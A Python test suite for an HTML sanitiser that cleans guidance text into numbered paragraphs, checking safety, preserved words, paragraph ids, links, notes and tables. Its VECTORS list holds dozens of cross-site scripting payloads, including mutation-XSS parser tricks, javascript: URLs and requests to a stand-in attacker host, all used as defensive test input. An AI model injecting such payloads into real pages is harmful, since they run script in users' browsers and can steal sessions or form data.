"""The body of a revision: whatever comes in, harmless text in numbered paragraphs comes out, and no word is lost."""

import re
import time
from collections import Counter
from html import escape
from typing import Any

import html5lib
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from procedures.errors import Invalid
from procedures.markup import Presented, Reference, clean, make_pid, paragraphs, present, references, with_pids
from procedures.model import AREAS

INLINE = {"a", "abbr", "br", "em", "small", "strong", "sub", "sup"}
BLOCKS = {"caption", "div", "h2", "h3", "li", "ol", "p", "table", "tbody", "td", "th", "thead", "tr", "ul"}
ALLOWED = INLINE | BLOCKS | {"html", "head", "body"}
ATTRIBUTES = {"href", "title", "id", "data-area", "data-contact", "colspan", "rowspan", "scope", "aria-label"}
SCHEMES = {"http", "https", "mailto", "section", "paragraph", "contact", "attachment"}

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi><table><mi><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='https://example.org' onclick='alert(1)' target='_blank'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object><embed src=x>",
    "<form action='https://evil.example'><input name=password><button formaction=x>Go</button></form>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div id='p-234567' onmouseover='alert(1)'>x</div>",
    "<div id='\"><img src=x onerror=alert(1)>'>x</div>",
    "<div data-area='\"><script>alert(1)</script>'>x</div>",
    "<p data-contact='x\" onload=\"alert(1)'>x</p>",
    "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
    "<table><td><script>alert(1)</script><td background='javascript:alert(1)'>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><xml><x>alert(1)</x></xml>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title></title><img src=x onerror=alert(1)></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>",
    "<h2><img src=x onerror=alert(1)>Heading</h2>",
    "<small><script>alert(1)</script><a href='javascript:alert(1)'>note</a></small>",
]

words = st.text("abcdefghij", min_size=1, max_size=6).map(lambda word: f" {word} ")
tags = st.sampled_from(sorted(INLINE | BLOCKS | {"b", "blockquote", "h1", "h4", "i", "section", "span"}))


def soups(pieces: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """Build markup of any nesting, seldom valid."""
    return st.recursive(
        pieces,
        lambda inner: st.builds(
            lambda tag, parts: f"<{tag}>{''.join(parts)}</{tag}>", tags, st.lists(inner, max_size=4)
        ),
        max_leaves=12,
    )


broken = st.lists(
    st.sampled_from(VECTORS)
    | tags.map(lambda t: f"<{t}>")
    | tags.map(lambda t: f"</{t}>")
    | words
    | st.text(max_size=9),
    max_size=8,
).map("".join)


def shown(html: str) -> Presented:
    return present(html, address=lambda kind, key: f"/{kind}/{key}", contact_card=lambda _: "", first_note=1)


def dangers(html: str) -> list[str]:
    """Read HTML as a browser does, and list whatever in it is not plain guidance."""
    found = []
    for element in html5lib.parse(html, namespaceHTMLElements=False).iter():
        if element.tag not in ALLOWED:
            found.append(f"element {element.tag}")
        for name, value in element.attrib.items():
            if name not in ATTRIBUTES:
                found.append(f"attribute {name}")
            if name == "href" and ":" in value and value.split(":")[0].lower() not in SCHEMES:
                found.append(f"address {value}")
    return found


def page(html: str) -> Any:
    """Read HTML as a browser does."""
    return html5lib.parse(html, namespaceHTMLElements=False).find("body")


def visible(html: str) -> Counter[str]:
    """Count the words a reader would see."""
    return Counter(" ".join(page(html).itertext()).split())


# Harmless


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_that_could_run_or_load_survives_cleaning_or_showing(vector: str) -> None:
    for html in (vector, f"<div><p>Text {vector} text.</p></div>", f"<table><tr><td>{vector}"):
        cleaned = clean(html)
        assert dangers(cleaned) == []
        assert dangers(shown(cleaned).html) == []
        presented = shown(html)  # text that came into the database by another door
        assert dangers(presented.html) == []
        assert [dangers(note) for note in presented.notes if dangers(note)] == []


@settings(max_examples=300, deadline=None)
@given(broken)
def test_broken_markup_is_harmless_and_stays_the_same_when_cleaned_again(html: str) -> None:
    once = clean(html)
    assert dangers(once) == []
    assert clean(once) == once


@settings(max_examples=300, deadline=None)
@given(soups(words))
@example("<a><div> b </div></a>")
@example("<small>x <p>y</p></small> tail")
@example("<table> lost <tr><td> kept </td></tr></table>")
def test_cleaning_clean_text_changes_nothing_and_loses_no_word(html: str) -> None:
    once = clean(html)
    assert clean(once) == once
    assert visible(once) == visible(html)


def test_markup_characters_in_the_text_stay_text() -> None:
    (paragraph,) = paragraphs(clean("<p>Under 1 &lt; age &amp; &lt;script&gt; is shown as typed</p>"), "8.1")
    assert paragraph.text == "Under 1 < age & <script> is shown as typed"
    assert "<script>" not in shown(paragraph.html).html


# In numbered paragraphs


@settings(max_examples=200, deadline=None)
@given(soups(words))
def test_every_word_outside_headings_is_in_a_numbered_paragraph(html: str) -> None:
    found = paragraphs(clean(html), "8.38")
    assert [p.number for p in found] == [f"8.38.{place}" for place in range(1, len(found) + 1)]
    assert [p.ordinal for p in found] == list(range(1, len(found) + 1))
    read = Counter(word for p in found for word in p.text.replace("(", " ").replace(")", " ").split() if word.isalpha())
    top = page(clean(html))
    in_headings = Counter(word for h in ("h2", "h3") for e in top.findall(h) for word in "".join(e.itertext()).split())
    assert read + in_headings == visible(html)


def test_paragraphs_carry_their_place_heading_area_and_plain_text() -> None:
    body = clean(
        "<h2>Do this now</h2><div><p>Ring.</p><ul><li>first</li><li>second</li></ul></div>"
        "<h2>What to do</h2><h3>Hospital</h3><div id='p-234567'><p>Examine.<small>A guideline.</small></p></div>"
        "<h3>Home</h3><div data-area='Brighton &amp; Hove'><table><tr><th scope='row'>Who</th><td>You</td></tr></table>"
        "</div><h2>After</h2><div data-area='Kent'>Record.</div>"
    )
    one, two, three, four = paragraphs(body, "8.38")
    assert (one.number, one.heading, one.text) == ("8.38.1", ("Do this now",), "Ring.\n- first\n- second")
    assert (two.pid, two.heading, two.text) == ("p-234567", ("What to do", "Hospital"), "Examine. (A guideline.)")
    assert (three.heading, three.area, three.text) == (("What to do", "Home"), "Brighton & Hove", "Who | You")
    assert (four.heading, four.area) == (("After",), None), "an area that does not exist is dropped"
    assert [p.number for p in paragraphs(body, None)] == ["1", "2", "3", "4"], "a contact's paragraphs count from one"


def test_loose_text_becomes_paragraphs_and_inner_divs_do_not() -> None:
    body = clean("Loose <p>One</p><div><div>Two</div><div> still two</div></div><ul><li>Three</li></ul>")
    assert [p.text for p in paragraphs(body, None)] == ["Loose", "One", "Two still two", "- Three"]


def test_an_empty_text_has_no_paragraphs() -> None:
    for nothing in ("", "   ", "<script>alert(1)</script>", "<!-- note -->"):
        assert paragraphs(clean(nothing), "8.1") == ()


# Ids


@settings(max_examples=200, deadline=None)
@given(soups(words))
def test_paragraph_ids_written_into_a_text_are_read_back_and_survive_cleaning(html: str) -> None:
    body = clean(html)
    pids = [make_pid("brue", 1, p.ordinal) for p in paragraphs(body, "8.1")]
    written = with_pids(body, pids)
    assert [p.pid for p in paragraphs(written, "8.1")] == pids
    assert clean(written) == written
    assert [p.text for p in paragraphs(written, "8.1")] == [p.text for p in paragraphs(body, "8.1")]


def test_a_missing_or_surplus_paragraph_id_is_never_passed_over() -> None:
    for pids in ([], ["p-222222", "p-333333"]):
        with pytest.raises(ValueError):
            with_pids("<div>One</div>", pids)


@given(st.text(min_size=1), st.integers(1, 99), st.integers(1, 999), st.integers(0, 9))
def test_paragraph_ids_are_derived_not_drawn_and_have_no_letters_that_look_alike(
    key: str, revision: int, ordinal: int, attempt: int
) -> None:
    key = key.encode("utf-8", "replace").decode()
    pid = make_pid(key, revision, ordinal, attempt)
    assert pid == make_pid(key, revision, ordinal, attempt)
    assert pid != make_pid(key, revision, ordinal, attempt + 1)
    assert pid.startswith("p-")
    assert len(pid) == 8
    assert not set(pid[2:]) & set("01ilo")


def test_ids_that_are_not_paragraph_ids_are_dropped() -> None:
    assert clean('<div id="main-content">Text</div>') == "<div>Text</div>"


# Links, contacts and notes


def test_every_link_to_something_in_the_manual_is_found_once_a_paragraph_with_where_it_stands() -> None:
    body = clean(
        "<div id='p-234567'><p><a href='section:brue'>BRUE</a> and <a href='section:brue'>again</a>, "
        "<a href='paragraph:p-345678'>this</a>, <a href='https://example.org'>outside</a></p></div>"
        "<div><p data-contact='police'></p><a href='contact:police'>police</a> <a href='attachment:abc'>form</a></div>"
    )
    assert references(body) == [
        Reference("p-234567", "section", "brue"),
        Reference("p-234567", "paragraph", "p-345678"),
        Reference(None, "contact", "police"),
        Reference(None, "attachment", "abc"),
    ]


def test_links_lead_where_the_page_says_and_a_link_to_nothing_becomes_its_words() -> None:
    html = clean("<p><a href='section:brue'>BRUE</a>, <a href='section:gone'>gone</a></p>")
    shown_ = present(
        html, address=lambda _, key: "/sections/brue" if key == "brue" else None, contact_card=str, first_note=1
    )
    assert '<a href="/sections/brue">BRUE</a>, gone' in shown_.html


def test_a_contact_placed_by_reference_shows_its_present_details() -> None:
    html = clean("<p>Ring:</p><p data-contact='police'></p>")
    card = "<dl class='card'><dt>Police</dt><dd>101</dd></dl>"
    shown_ = present(
        html, address=lambda *_: None, contact_card=lambda key: card if key == "police" else "", first_note=1
    )
    assert "101" in shown_.html
    assert "data-contact" not in shown_.html


def test_notes_are_numbered_through_a_page_and_lifted_out_of_the_text() -> None:
    html = clean("<p>One<small>First <em>note</em></small> two<small>Second</small></p>")
    presented = present(html, address=lambda *_: None, contact_card=str, first_note=7)
    assert presented.notes == ("First <em>note</em>", "Second")
    assert presented.html.index('href="#note-7"') < presented.html.index('href="#note-8"')
    assert 'id="note-ref-7"' in presented.html
    assert "First" not in presented.html


def test_notes_keep_their_links() -> None:
    presented = shown(clean("<p>One<small><a href='https://www.gov.uk/x'>Source</a></small></p>"))
    assert presented.notes == ('<a href="https://www.gov.uk/x">Source</a>',)


# In time


@pytest.mark.parametrize("tag", ["em", "div", "ul><li", "small"])
def test_text_nested_beyond_reason_is_refused_quickly_and_in_words(tag: str) -> None:
    started = time.monotonic()
    with pytest.raises(Invalid, match="plain text"):
        clean(f"<{tag}>" * 5000 + "deep")
    assert time.monotonic() - started < 5


def test_ordinary_depth_is_never_refused() -> None:
    assert paragraphs(clean("<ul><li>" * 20 + "deep"), None)[0].text.endswith("deep")


def test_counting_depth_is_not_fooled_by_tags_inside_attributes() -> None:
    with pytest.raises(Invalid, match="deep"):
        clean("<em><abbr title='</em></em></em>'>x</abbr>" * 200)


def test_a_text_as_long_as_a_book_is_read_in_seconds() -> None:
    started = time.monotonic()
    body = clean("<p>word <a href='section:brue'>link</a><small>note</small></p>" * 3_000)
    assert len(paragraphs(body, "8.1")) == 3_000
    assert len(references(body)) == 1, "without ids the same link counts once"
    assert time.monotonic() - started < 20


def explained(html: str, **words: str) -> str:
    shown = present(html, address=lambda *_: None, contact_card=lambda _: "", first_note=1, explained=words)
    return shown.html


def test_a_word_is_explained_once_where_it_first_stands_in_running_text() -> None:
    html = "<p><small>LADO in a note.</small> A LADOX is none; tell the LADO. The LADO decides.</p>"
    assert explained(html, LADO="<button>LADO</button>").count("<button>LADO</button> decides") == 0
    assert "tell the <button>LADO</button>. The LADO" in explained(html, LADO="<button>LADO</button>")


def test_a_word_in_a_link_or_in_another_explanation_is_left_alone() -> None:
    html = '<p><a href="https://example.org/">The LADO</a> and EDT</p>'
    shown = explained(html, LADO="<button>LADO</button>", EDT="<button>EDT (LADO)</button>")
    assert shown.count("<button>") == 1


def table(columns: int, *, cell: str = "<td>") -> str:
    heads = "".join(f"<th scope='col'>Column {n}</th>" for n in range(columns))
    cells = "<th scope='row'>Row</th>" + f"{cell}here</td>" * (columns - 1)
    return f"<table><thead><tr>{heads}</tr></thead><tbody><tr>{cells}</tr></tbody></table>"


def test_each_cell_of_a_wide_table_says_its_column_and_what_it_is() -> None:
    shown_ = present(table(3), address=lambda *_: None, contact_card=str, first_note=1).html
    assert shown_.count('data-column="Column 1"') == shown_.count('data-column="Column 2"') == 1
    assert shown_.count('role="cell"') == 2
    assert shown_.count('role="columnheader"') == 3
    assert shown_.count('role="rowheader"') == 1


@pytest.mark.parametrize("html", [table(2), table(4, cell='<td colspan="2">'), "<table><tr><td>1</td></tr></table>"])
def test_a_table_that_fits_or_has_cells_over_several_columns_stays_a_plain_table(html: str) -> None:
    shown_ = present(html, address=lambda *_: None, contact_card=str, first_note=1).html
    assert "role=" not in shown_
    assert "data-column" not in shown_


@given(
    st.lists(
        st.fixed_dictionaries(
            {}, optional={"lang": st.text(), "title": st.text(), "data-area": st.sampled_from(AREAS)}
        ),
        min_size=1,
        max_size=4,
    )
)
def test_ids_are_written_into_whatever_clean_leaves_and_change_nothing_else(asked: list[dict[str, str]]) -> None:
    divs = (
        "".join(("<div ", *(f'{name}="{escape(value, quote=True)}" ' for name, value in each.items()), ">Ring.</div>"))
        for each in asked
    )
    body = clean("<h2>First</h2>" + "".join(divs))
    pids = [f"p-aaaaa{letter}" for letter in "bcde"][: len(asked)]
    named = with_pids(body, pids)
    assert [p.pid for p in paragraphs(named, None)] == pids
    assert clean(named) == named
    assert re.sub(r' id="[^"]*"', "", named) == body
    assert with_pids(named, pids) == named
